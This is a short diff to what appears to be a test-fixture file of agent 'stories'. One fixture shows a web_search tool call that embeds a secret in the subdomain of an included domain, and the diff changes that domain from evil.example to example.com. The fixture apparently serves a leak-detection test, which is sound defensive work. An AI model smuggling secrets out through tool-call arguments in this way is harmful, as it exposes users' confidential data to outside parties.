@@ -121,7 +121,7 @@ export function stories(): Story[] {
       calls: [
         {
           tool: "web_search",
-          args: { query: `news ${at}`, includeDomains: [`${secret.toLowerCase()}.evil.example`] },
+          args: { query: `news ${at}`, includeDomains: [`${secret.toLowerCase()}.example.com`] },
         },
       ],
       leaks: [secret.toLowerCase()],
